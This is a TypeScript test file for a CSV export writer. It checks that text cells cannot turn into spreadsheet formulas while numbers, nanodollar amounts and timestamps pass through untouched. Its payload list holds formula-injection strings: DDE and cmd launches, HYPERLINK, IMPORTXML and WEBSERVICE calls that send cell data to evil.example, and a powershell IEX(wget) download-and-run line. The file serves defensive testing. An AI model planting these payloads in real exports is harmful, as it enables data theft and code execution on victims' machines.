// CSV cells: text can never become a formula, numbers and amounts are never touched, and a spreadsheet reads back what was written.

import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { escapeFormula, headerLine, toLines, type Column } from '../../../gateway/admin/csv.ts'
import { nanoUsd, type NanoUsd } from '../../../gateway/contract/money.ts'

interface Row {
  readonly text: string | null
  readonly count: number | null
  readonly amount: NanoUsd | null
  readonly at: number | null
}
const columns: readonly Column<Row>[] = [
  { header: 'text', kind: 'text', read: (row) => row.text },
  { header: 'count', kind: 'number', read: (row) => row.count },
  { header: 'cost_usd', kind: 'money', read: (row) => row.amount },
  { header: 'at', kind: 'time', read: (row) => row.at },
]
const row = (facts: Partial<Row>): Row => ({ text: null, count: null, amount: null, at: null, ...facts })
const line = (facts: Partial<Row>, zone = 'UTC'): string => toLines(columns, [row(facts)], zone)

/** RFC 4180, written independently of the writer. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at += 1) {
    const letter = text.charAt(at)
    if (quoted && letter === '"' && text.charAt(at + 1) === '"') cell += text.charAt((at += 1))
    else if (letter === '"') quoted = !quoted
    else if (!quoted && (letter === ',' || text.startsWith('\r\n', at))) {
      rows.at(-1)?.push(cell)
      cell = ''
      if (letter !== ',') {
        rows.push([])
        at += 1
      }
    } else cell += letter
  }
  return rows.slice(0, -1)
}

// OWASP's payloads and those of public write-ups, each as a model name or alias somebody could choose.
const payloads = [
  "=cmd|'/C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!D2",
  '-0.5',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=',
  '+',
  '-',
  '@',
  '=1+1,=2+2',
  '="a""b"',
  '=1;2',
  '=“smart”',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=IF(1,"","")',
  '=@A1',
  '-@A1',
  '+@A1',
  '=ＣＭＤ',
  "=1'",
  '@',
  '--1',
  '==1',
  '=\u00001',
]

describe('a text cell', () => {
  test.each(payloads)('%j is no formula', (payload) => {
    const [cell = ''] = readCsv(line({ text: payload }))[0] ?? []
    expect(cell).toBe(`'${payload}`)
  })

  // Where these begin a cell, too.
  test.each([
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
    ['\n=1+1', "'\n'=1+1"],
    ['\r\n=1+1', "'\r\n'=1+1"],
    ['=A1\r\n=B1', "'=A1\r\n'=B1"],
    ["x;=1+cmd|' /C calc'!A0", "x;'=1+cmd|' /C calc'!A0"],
    ['a\t=1+1', "a\t'=1+1"],
    ['a; \t;@SUM(1)', "a; \t;'@SUM(1)"],
    ['a;"＝1"', 'a;"\'＝1"'],
    ['a;b-c;1+1', 'a;b-c;1+1'],
  ])('%j is no formula behind another separator', (payload, expected) => {
    expect(readCsv(line({ text: payload }))[0]?.[0]).toBe(expected)
  })

  test('begins no formula, whichever of comma, semicolon and tab separates cells', () => {
    const texts: readonly Column<readonly string[]>[] = [0, 1].map((at) => ({ header: '', kind: 'text', read: (cells) => cells[at] ?? null }))
    const unit = fc.constantFrom(...'=+-@＝＋－＠;\t\r\n ",\'a1')
    fc.assert(
      fc.property(fc.array(fc.string({ unit, maxLength: 12 }), { minLength: 2, maxLength: 2 }), (cells) => {
        const [, ...pieces] = toLines(texts, [cells], 'UTC').split(/[;\t\r\n]/)
        for (const piece of pieces) expect(piece).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
      }),
      { seed: 20261121, numRuns: 2000 },
    )
  })

  test.each(['gpt-4o', 'claude-sonnet-4', "O'Neill", 'a=b', 'a,b', 'say "hi"', 'line\nbreak', 'a\r\nb', 'ключ', '', ' '])('%j is kept as it is', (text) => {
    expect(readCsv(line({ text }))[0]?.[0]).toBe(text)
  })

  test('is read back as written, but for apostrophes before signs', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (text) => {
        const [cell = ''] = readCsv(line({ text }))[0] ?? []
        if (/[;\t\r\n]/.test(text)) expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
        else expect([text, `'${text}`]).toContain(cell)
        expect(/^[=+\-@\t\r\n]/.test(cell)).toBe(false)
      }),
      { seed: 20261121 },
    )
  })

  test('without a value is empty', () => {
    expect(escapeFormula(null)).toBeNull()
    expect(line({})).toBe(',,,\r\n')
  })
})

describe('other cells', () => {
  test('a negative correction stays a number', () => {
    expect(line({ amount: nanoUsd(-1), count: -7 })).toBe(',-7,-0.000000001,\r\n')
  })

  test('an amount has nine decimals, no exponent and no separator, however large', () => {
    expect(line({ amount: nanoUsd(1_234_567_890_123_456_789n) })).toBe(',,1234567890.123456789,\r\n')
  })

  test('a time carries the offset of its own day', () => {
    expect(line({ at: Date.UTC(2026, 6, 1, 12) }, 'Europe/Berlin')).toBe(',,,2026-07-01T14:00:00.000+02:00\r\n')
    expect(line({ at: Date.UTC(2026, 11, 1, 12, 0, 0, 5) }, 'Europe/Berlin')).toBe(',,,2026-12-01T13:00:00.005+01:00\r\n')
    expect(line({ at: Date.UTC(2026, 0, 1) }, 'America/St_Johns')).toBe(',,,2025-12-31T20:30:00.000-03:30\r\n')
  })

  test('the header row ends like every row', () => {
    expect(headerLine(columns)).toBe('text,count,cost_usd,at\r\n')
  })
})
